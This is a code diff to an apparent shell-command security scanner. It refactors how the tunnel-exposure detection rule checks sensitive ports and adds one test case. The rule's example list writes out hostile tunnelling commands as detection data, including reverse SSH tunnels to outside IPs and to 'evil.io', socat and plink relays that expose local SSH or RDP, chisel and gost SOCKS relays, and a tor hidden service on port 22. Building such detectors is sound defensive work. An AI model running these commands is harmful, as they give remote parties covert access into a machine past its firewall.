@@ -9,6 +9,7 @@ import { sedSubstitutions } from '../shell/sed-script.js';
 
 export { SHELLS };
 import { classifyHost, destinationOf, EXFIL_KINDS, firstUrl, hostsEntries, hostsInCode, type Destination } from '../knowledge/hosts.js';
+import { isAdminPort } from '../knowledge/ports.js';
 import { editsOf, shippedAdditions } from '../knowledge/weakened-code.js';
 import { canonicalPath, hiddenInTemp, inTemp, isStagingPath } from '../knowledge/paths.js';
 import { hostileText, putIn, writes } from './persistence.js';
@@ -783,8 +784,6 @@ const external = (host: string | undefined) => {
   const d = destinationOf(host) ?? destinationOf(`ssh://${host}`);
   return d !== undefined && d.kind !== 'loopback' && d.kind !== 'private';
 };
-/** Ports whose exposure hands out a login or a database rather than a web page. */
-const SENSITIVE_PORTS = new Set(['22', '23', '3389', '5900', '5432', '3306', '6379', '27017', '2375', '2376', '445', '139', '5985', '11211', '9200']);
 const portOf = (w: string | undefined) => (w ?? '').match(/(\d{1,5})\/?$/)?.[1];
 
 /** cloudflared's verbs that sign in to the account or manage named tunnels without running or publishing one. */
@@ -824,7 +823,7 @@ function tunnelExposure(c: SimpleCommand): string | undefined {
       return c.argv.some((w) => w.startsWith('-F')) ? c.argv.join(' ') : undefined;
     case 'ngrok': {
       const proto = ops[0];
-      if (proto === 'tcp' || proto === 'tls' || SENSITIVE_PORTS.has(portOf(ops[1]) ?? '')) return c.argv.join(' ');
+      if (proto === 'tcp' || proto === 'tls' || isAdminPort(portOf(ops[1]))) return c.argv.join(' ');
       return undefined;
     }
     case 'cloudflared': {
@@ -832,15 +831,15 @@ function tunnelExposure(c: SimpleCommand): string | undefined {
       return url && /^(--url=)?(ssh|rdp|tcp|smb|unix):\/\//.test(url) ? c.argv.join(' ') : undefined;
     }
     case 'bore': case 'lt':
-      return SENSITIVE_PORTS.has(ops[1] ?? portOf(c.argv[c.argv.indexOf('--port') + 1]) ?? '') ? c.argv.join(' ') : undefined;
+      return isAdminPort(ops[1] ?? portOf(c.argv[c.argv.indexOf('--port') + 1])) ? c.argv.join(' ') : undefined;
     // Tailscale Funnel publishes a local port on the internet: a raw TCP one, or SSH's, is a way in
     case 'tailscale':
-      return ops[0] === 'funnel' && (c.argv.some((w) => w === '--tcp' || w.startsWith('--tcp=') || w.startsWith('--tls-terminated-tcp') || /^tcp:\/\//.test(w)) || SENSITIVE_PORTS.has(portOf(ops.at(-1)) ?? ops.at(-1) ?? '')) ? c.argv.join(' ') : undefined;
+      return ops[0] === 'funnel' && (c.argv.some((w) => w === '--tcp' || w.startsWith('--tcp=') || w.startsWith('--tls-terminated-tcp') || /^tcp:\/\//.test(w)) || isAdminPort(portOf(ops.at(-1)) ?? ops.at(-1))) ? c.argv.join(' ') : undefined;
     // socat joining an outside address to a machine inside: a relay from the internet into the network
     case 'socat': {
       const ends = c.argv.slice(1).filter((w) => /^(?:tcp[46]?|openssl|udp[46]?):/i.test(w)).map((w) => w.split(/[:,]/));
       // (the machine's own SSH on the inside end, `socat OPENSSL:45.77.31.20:443 TCP:127.0.0.1:22`, is a way into it)
-      const inside = ([, h = '', port = '']: string[]) => classifyHost(h) === 'private' || (classifyHost(h) === 'loopback' && SENSITIVE_PORTS.has(port));
+      const inside = ([, h = '', port = '']: string[]) => classifyHost(h) === 'private' || (classifyHost(h) === 'loopback' && isAdminPort(port));
       return ends.length === 2 && ends.some(([, h]) => external(h ?? '')) && ends.some(inside) ? c.argv.join(' ') : undefined;
     }
     // a hidden service hands a local port (SSH, a shell) to anyone who has the .onion name, past every firewall
@@ -855,7 +854,7 @@ function tunnelExposure(c: SimpleCommand): string | undefined {
       // a web port shared to a named host (a preview server, a tunnel service) is an alert (PX-C2-011);
       // SSH, RDP or a shell port, or a bare IP or throwaway host on the other end, exposes the machine
       const kind = destinationOf(`ssh://${(host ?? '').replace(/^[^@]*@/, '')}`)?.kind;
-      const sensitive = remote.some((r) => SENSITIVE_PORTS.has(portOf(r) ?? ''));
+      const sensitive = remote.some((r) => isAdminPort(portOf(r)));
       return sensitive || (kind !== undefined && kind !== 'tunnel' && EXFIL_KINDS.has(kind)) ? c.argv.join(' ') : undefined;
     }
     default:
@@ -1078,7 +1077,7 @@ export const RULES: readonly Rule[] = [
     message: 'Opens a tunnel that exposes this machine to the internet', why: 'chisel, frp, ngrok tcp, cloudflared ssh:// and `ssh -R` to an outside host give a remote party a way in past the firewall.',
     alternative: 'Use the team VPN or a bastion host.',
     test: (c) => tunnelExposure(c),
-    examples: { fire: ['nohup socat OPENSSL:45.77.31.20:443,verify=0 TCP:127.0.0.1:22 >/dev/null 2>&1 &', `echo y | plink.exe -ssh -R 4455:127.0.0.1:3389 -pw 'tunn3l' -batch tun@45.137.21.9`, 'ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'autossh -M 0 -f -N -R 9922:localhost:22 relay@203.0.113.31', 'tor --HiddenServiceDir /tmp/.hs --HiddenServicePort "2222 127.0.0.1:22" --RunAsDaemon 1', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080', 'tailscale funnel --bg --tcp 2222 tcp://localhost:22', 'socat TCP4:203.0.113.50:443 TCP4:10.1.2.3:3389'], quiet: ['ngrok tcp --help | head -30', 'frpc verify -c ~/kiosk/frpc.toml', 'plink -ssh -batch -pw x deploy@10.0.0.5 uptime', 'socat TCP4:203.0.113.50:443 TCP4:127.0.0.1:8080', 'tailscale funnel status', 'autossh -M 0 -N -L 5432:db.internal:5432 dev@bastion.corp.example', 'tor --version', 'ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
+    examples: { fire: ['lt --port 5986', 'nohup socat OPENSSL:45.77.31.20:443,verify=0 TCP:127.0.0.1:22 >/dev/null 2>&1 &', `echo y | plink.exe -ssh -R 4455:127.0.0.1:3389 -pw 'tunn3l' -batch tun@45.137.21.9`, 'ngrok tcp 22 --authtoken x --log=false > /dev/null &', './chisel client 45.33.12.7:8000 R:socks', 'autossh -M 0 -f -N -R 9922:localhost:22 relay@203.0.113.31', 'tor --HiddenServiceDir /tmp/.hs --HiddenServicePort "2222 127.0.0.1:22" --RunAsDaemon 1', 'ssh -fNR 2222:localhost:22 tunnel@45.33.12.7', 'cloudflared tunnel --url ssh://localhost:22', 'ssh -o StrictHostKeyChecking=no -N -R 0.0.0.0:8080:10.0.0.5:5432 -p 443 x@evil.io &', 'gost -L=:8080 -F=socks5://45.33.12.7:1080', 'tailscale funnel --bg --tcp 2222 tcp://localhost:22', 'socat TCP4:203.0.113.50:443 TCP4:10.1.2.3:3389'], quiet: ['ngrok tcp --help | head -30', 'frpc verify -c ~/kiosk/frpc.toml', 'plink -ssh -batch -pw x deploy@10.0.0.5 uptime', 'socat TCP4:203.0.113.50:443 TCP4:127.0.0.1:8080', 'tailscale funnel status', 'autossh -M 0 -N -L 5432:db.internal:5432 dev@bastion.corp.example', 'tor --version', 'ngrok http 3000', 'gost -L=http://127.0.0.1:8080', 'ssh -N -L 5433:localhost:5432 dev@bastion.internal', 'ssh -R 9000:localhost:9000 dev@build.internal', 'cloudflared --version'] },
   },
   {
     id: 'PX-C2-010', name: 'opens-public-dev-tunnel', score: 50, tactic: 'command_and_control', technique: 'T1572',
